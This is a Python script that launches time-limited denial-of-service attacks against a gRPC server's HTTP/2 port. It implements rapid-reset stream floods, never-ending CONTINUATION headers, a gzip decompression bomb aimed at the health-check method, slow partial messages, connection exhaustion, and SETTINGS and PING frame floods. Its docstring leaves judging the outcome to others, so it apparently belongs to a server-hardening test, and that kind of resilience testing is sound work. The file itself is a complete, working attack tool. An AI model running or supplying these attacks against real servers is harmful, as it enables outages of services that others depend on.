#!/usr/bin/env python3
"""Attacks on a server's gRPC port, each bounded in time: attack.py KIND HOST:PORT SECONDS.

  rapid-reset   opens calls and resets them at once, on as many connections one after the other as are cut;
                rapid-reset-nowhere: of a method that there is not
  continuation  one request whose headers never end
  bomb          messages to the open health method that unpack to a thousand times their size
  slow-message  large messages to the open health method that never become whole
  connections   as many connections as can be had, held
  settings, pings   floods of frames that want an acknowledgement, whose answers nobody reads

It prints what it did and ends with 0; whether the server withstood is for others to say.
"""

import socket
import sys
import time
import zlib

import http2

HEALTH = "/grpc.health.v1.Health/Check"


def packed_letters(size):
    """The gzip of a message whose field 1, the name of a service, is `size` letters long."""
    packer = zlib.compressobj(1, zlib.DEFLATED, 31)
    length = bytes([size >> shift & 127 | 128 for shift in (0, 7, 14, 21)] + [size >> 28])
    letters = b"a" * (1 << 20)
    return (packer.compress(b"\x0a" + length) + b"".join(packer.compress(letters) for _ in range(size >> 20)) +
            packer.flush())


BOMB = packed_letters(256 << 20) if sys.argv[1:2] == ["bomb"] else b""


class Attack:
    def __init__(self, address, seconds):
        self.address = address
        self.end = time.monotonic() + seconds
        self.done = 0
        self.cut = 0

    def going_on(self):
        return time.monotonic() < self.end

    def on_connections(self, one):
        """Again and again, for whoever floods comes back."""
        while self.going_on():
            try:
                with http2.connect(self.address) as sock:
                    one(sock)
            except OSError:
                pass
            self.cut += self.going_on()
            time.sleep(0.01)

    def rapid_reset(self, sock, method=HEALTH):
        headers = http2.call(method)
        cancel = (8).to_bytes(4, "big")
        stream = 1
        while self.going_on():
            pieces = []
            for _ in range(100):
                pieces.append(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers))
                pieces.append(http2.frame(http2.RST_STREAM, 0, stream, cancel))
                stream += 2
            sock.sendall(b"".join(pieces))
            self.done += 100
            if not http2.drain(sock):
                return
        # A loaded server is behind with what was sent: it is heard out.
        sock.settimeout(20)
        while sock.recv(1 << 16):
            pass
        self.cut += 1

    def rapid_reset_nowhere(self, sock):
        self.rapid_reset(sock, "/no.such.Service/Method")

    def continuation(self, sock):
        sock.sendall(http2.frame(http2.HEADERS, 0, 1, http2.call(HEALTH)))
        more = http2.frame(http2.CONTINUATION, 0, 1, b"".join(http2.header("x%d" % i, "y" * 100) for i in range(140)))
        while self.going_on():
            sock.sendall(more)
            self.done += 1
            if not http2.drain(sock):
                return

    def bomb(self, sock):
        body = http2.message(BOMB, compressed=True)
        stream = 1
        while self.going_on():
            sock.sendall(http2.frame(http2.HEADERS, http2.END_HEADERS, stream,
                                     http2.call(HEALTH, ("grpc-encoding", "gzip"))))
            try:
                self.pour(sock, stream, body, http2.END_STREAM)
            except TimeoutError:
                pass
            self.done += 1
            stream += 2

    def pour(self, sock, stream, body, last_flag=0):
        """Sends no faster than the windows allow; gives up where they stay shut."""
        windows = {0: 65535, stream: 65535}
        at = 0
        buffered = b""
        sock.settimeout(1)
        while at < len(body):
            room = min(windows[0], windows[stream], 16384)
            if room > 0:
                piece = body[at:at + room]
                at += len(piece)
                sock.sendall(http2.frame(http2.DATA, last_flag if at == len(body) else 0, stream, piece))
                for key in windows:
                    windows[key] -= len(piece)
                continue
            got = sock.recv(1 << 16)
            if not got:
                raise ConnectionError
            buffered += got
            while len(buffered) >= 9:
                size = int.from_bytes(buffered[:3], "big")
                if len(buffered) < 9 + size:
                    break
                kind, of = buffered[3], int.from_bytes(buffered[5:9], "big") & 0x7FFFFFFF
                if kind == http2.WINDOW_UPDATE and of in windows:
                    windows[of] += int.from_bytes(buffered[9:13], "big")
                if kind in (http2.RST_STREAM, http2.GOAWAY) or kind == http2.HEADERS and of == stream:
                    return
                buffered = buffered[9 + size:]

    def slow_message(self, sock):
        body = http2.message(b"\x0a" + b"a" * (4 << 20))[:-1]
        stream = 1
        while self.going_on():
            sock.sendall(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, http2.call(HEALTH)))
            try:
                self.pour(sock, stream, body)
            except TimeoutError:
                pass
            self.done += 1
            stream += 2

    def connections(self):
        held = []
        while self.going_on():
            try:
                held.append(http2.connect(self.address))
                self.done += 1
            except OSError:
                self.cut += 1
                time.sleep(0.02)
        print("held %d connections" % len(held))

    def settings(self, sock):
        many = http2.frame(http2.SETTINGS, 0, 0) * 1000
        while self.going_on():
            sock.sendall(many)
            self.done += 1000

    def pings(self, sock):
        many = http2.frame(http2.PING, 0, 0, b"attacked") * 1000
        while self.going_on():
            sock.sendall(many)
            self.done += 1000


def main():
    kind, address, seconds = sys.argv[1:]
    attack = Attack(address, float(seconds))
    if kind == "connections":
        attack.connections()
    else:
        attack.on_connections(getattr(attack, kind.replace("-", "_")))
    print("%s: %d done, %d connections cut" % (kind, attack.done, attack.cut))


if __name__ == "__main__":
    main()
